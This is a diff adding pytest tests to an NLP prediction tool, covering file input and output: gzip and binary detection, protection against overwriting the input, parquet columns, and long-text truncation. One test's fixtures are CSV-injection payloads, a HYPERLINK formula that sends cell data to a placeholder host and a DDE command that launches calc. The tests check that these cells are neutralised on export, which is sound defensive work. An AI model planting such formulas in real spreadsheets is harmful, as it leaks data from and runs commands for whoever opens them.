@@ -719,3 +719,117 @@ def test_serve_drops_a_connection_that_never_finishes_its_header(trained):
         import httpx
 
         assert httpx.get(url + "/health").status_code == 200
+
+
+# --- issue 38: files in and out ---
+
+def test_predict_reads_a_gzip_file_named_csv_as_its_texts_and_refuses_a_binary_one(trained, tmp_path, capsys):
+    import gzip
+
+    plain = write_csv(tmp_path / "in.csv", [(f"{'good' if i % 2 else 'bad'} film {i}", str(i)) for i in range(15)],
+                      header=("text", "id"))
+    packed = tmp_path / "packed.csv"
+    packed.write_bytes(gzip.compress(plain.read_bytes()))
+    assert main(["predict", str(trained["full"]), "--input", str(plain), "--output", str(tmp_path / "a.csv")]) == 0
+    code, err, out = _main(["predict", trained["full"], "--input", packed, "--output", tmp_path / "b.csv"], capsys)
+    assert code == 0 and f"read 15 rows of {packed} (csv, utf-8)" in out, err
+    assert (tmp_path / "b.csv").read_bytes() == (tmp_path / "a.csv").read_bytes()
+    png = tmp_path / "photo.csv"
+    png.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
+    _one_error_line(_main(["predict", trained["full"], "--input", png, "--output", tmp_path / "c.csv"], capsys),
+                    f"{png} is a PNG image, not a text file of CSV/TSV/JSONL")
+    assert not (tmp_path / "c.csv").exists()
+
+
+def test_predict_quotes_cells_a_spreadsheet_would_run_and_keeps_numbers_and_raw_cells_on_request(trained, tmp_path,
+                                                                                               capsys):
+    import csv
+
+    rows = [("=HYPERLINK(\"http://x.example/?\"&A1)", "-1.5", "@SUM(1+1)"), ("good film", "+2", "-2+3"),
+            ("'=already quoted", "3", "\tTAB"), ("bad film", "-0.25", "plain")]
+    source = write_csv(tmp_path / "in.csv", rows, header=("text", "amount", "note"))
+    for suffix, sep in ((".csv", ","), (".tsv", "\t")):
+        out = tmp_path / f"o{suffix}"
+        assert main(["predict", str(trained["full"]), "--input", str(source), "--output", str(out)]) == 0
+        with open(out, newline="", encoding="utf-8") as f:
+            written = list(csv.DictReader(f, delimiter=sep))
+        assert [r["text"] for r in written] == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "good film",
+                                                "''=already quoted", "bad film"]
+        assert [r["amount"] for r in written] == ["-1.5", "+2", "3", "-0.25"]  # numbers stay numbers
+        assert [r["note"] for r in written] == ["'@SUM(1+1)", "'-2+3", "'\tTAB", "plain"]
+    raw = tmp_path / "raw.csv"
+    assert main(["predict", str(trained["full"]), "--input", str(source), "--output", str(raw), "--keep-formulas"]) == 0
+    with open(raw, newline="", encoding="utf-8") as f:
+        assert [(r["text"], r["note"]) for r in csv.DictReader(f)] == [(text, note) for text, _, note in rows]
+
+
+def test_a_runs_predictions_csv_quotes_formula_texts_and_labels_and_reads_them_back_as_they_were(tiny_models,
+                                                                                              tmp_path):
+    import csv
+
+    from nlptransfer.publish.repo_folder import reference
+
+    rows = [(("=cmd|' /C calc'!A0 " if i % 5 == 0 else "") + text, "=bad" if label == "negative" else "@good")
+            for i, (text, label) in enumerate(sentiment_rows(40))]
+    data = write_csv(tmp_path / "reviews.csv", rows)
+    run = _train(tiny_models["bert"], data, tmp_path / "safe", **{"data.test_fraction": 0.5})
+    with open(run.path / "predictions.csv", newline="", encoding="utf-8") as f:
+        written = list(csv.DictReader(f))
+    texts = RunFolder(run.path).read_json("data_report")["rows_used"]["test"]
+    assert len(written) == texts and {r["gold"] for r in written} == {"'=bad", "'@good"}
+    assert {r["predicted"] for r in written} <= {"'=bad", "'@good"}
+    formulas = [r["text"] for r in written if "calc" in r["text"]]
+    assert formulas and all(t.startswith("'=cmd|") for t in formulas)
+    assert not [r for r in written if r["text"][:1] in "=+-@"]
+    back, _ = reference(RunFolder(run.path))  # what a push checks the reloaded model on: the texts as they were
+    assert sorted(back) == sorted(t.removeprefix("'") for t in (r["text"] for r in written))
+    from nlptransfer.data import load_splits
+    from nlptransfer.recipe import read_saved
+    from nlptransfer.report.build import _transfer_predictions
+
+    recipe = read_saved(run.path / "recipe.yaml")  # the report checks the file holds the test rows the data gives
+    probs, _ = _transfer_predictions(RunFolder(run.path), load_splits(recipe.data, recipe.training.seed), False)
+    assert probs.shape == (texts, 2)
+    kept = _train(tiny_models["bert"], data, tmp_path / "kept", **{"data.test_fraction": 0.5,
+                                                                     "output.keep_formulas": True})
+    with open(kept.path / "predictions.csv", newline="", encoding="utf-8") as f:
+        assert {r["gold"] for r in csv.DictReader(f)} == {"=bad", "@good"}
+
+
+def test_predict_refuses_to_write_over_its_own_input_by_any_path(trained, tmp_path, capsys):
+    source = write_csv(tmp_path / "in.csv", [("good film", "1"), ("bad film", "2")], header=("text", "id"))
+    before = source.read_bytes()
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "link.csv").symlink_to(source)
+    os.link(source, tmp_path / "hard.csv")
+    for output in (source, tmp_path / "sub" / ".." / "in.csv", tmp_path / "link.csv", tmp_path / "hard.csv"):
+        _one_error_line(_main(["predict", trained["full"], "--input", source, "--output", output], capsys),
+                        f"is the input file {source}: writing the predictions would replace it")
+    _one_error_line(_main(["predict", trained["full"], "--input", tmp_path / "link.csv", "--output", source], capsys),
+                    "writing the predictions would replace it")
+    assert source.read_bytes() == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["hard.csv", "in.csv", "link.csv", "sub"]
+
+
+def test_predict_writes_nested_parquet_columns_as_json_in_csv(trained, tmp_path):
+    source = tmp_path / "in.parquet"
+    pd.DataFrame({"text": ["good film", "bad film"], "tags": [["a", "b"], []],
+                  "meta": [{"k": 1, "v": "x"}, {"k": 2, "v": None}], "score": [0.5, -1.5]}).to_parquet(source)
+    out = tmp_path / "o.csv"
+    assert nlptransfer.predict_file(trained["full"], str(source), str(out)) == 2
+    frame = pd.read_csv(out, keep_default_na=False)
+    assert [json.loads(t) for t in frame["tags"]] == [["a", "b"], []]
+    assert [json.loads(m) for m in frame["meta"]] == [{"k": 1, "v": "x"}, {"k": 2, "v": None}]
+    assert frame["score"].tolist() == [0.5, -1.5]
+
+
+def test_predict_cuts_a_text_over_the_character_bound_and_says_so(trained, tmp_path, capsys):
+    long = "good film " * 15_000
+    source = write_csv(tmp_path / "in.csv", [("bad film", "1"), (long, "2"), (long[:100_000], "3")],
+                       header=("text", "id"))
+    code, err, out = _main(["predict", trained["full"], "--input", source, "--output", tmp_path / "o.csv"], capsys)
+    assert code == 0, err
+    assert ("warning: 1 texts longer than 100,000 characters were cut to them before predicting (rows 2)" in out)
+    frame = pd.read_csv(tmp_path / "o.csv", keep_default_na=False)
+    assert frame["text"].str.len().tolist() == [8, len(long), 100_000]  # the input is written as it was
+    assert frame.loc[1, "prob_positive"] == frame.loc[2, "prob_positive"]  # predicted on its first 100,000
